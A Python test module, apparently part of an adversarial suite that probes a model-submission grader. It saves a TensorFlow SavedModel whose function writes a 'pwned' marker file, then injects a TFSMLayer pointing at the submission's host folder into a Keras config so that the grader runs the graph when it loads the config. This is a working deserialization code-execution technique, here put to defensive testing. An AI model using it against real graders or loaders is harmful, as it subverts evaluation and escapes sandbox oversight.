"""Saves a TensorFlow SavedModel in its own folder whose function writes a file, and sends a config
whose TFSMLayer loads it from the host's path of that folder (bubblewrap's command line names
it): loading it in the grader would run the SavedModel's graph there."""
import os

import adversarial_kit as kit
from _honest import build_lenet as _build_lenet
from _honest import layer_output_shapes  # noqa: F401

MARK = kit.pwned_path("tfsm")


def build_lenet():
    import tensorflow as tf

    class Payload(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 256], tf.float32)])
        def serve(self, x):
            tf.io.write_file(MARK, "pwned")
            return x

    saved = os.path.join(kit.HERE, "payload_model")
    try:
        tf.saved_model.save(Payload(), saved)
    except Exception as error:  # the attack still sends its config
        print("could not save the payload:", error)
    config = kit.config_of(_build_lenet())
    layers = kit.layers_of(config)
    flatten = [i for i, layer in enumerate(layers) if layer["class_name"] == "Flatten"][0]
    layers.insert(flatten + 1, {"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
                                "config": {"name": "payload", "trainable": False, "call_endpoint": "serve",
                                           "filepath": os.path.join(kit.host_folder_of_submission(), "payload_model")}})
    return kit.send_config(config)
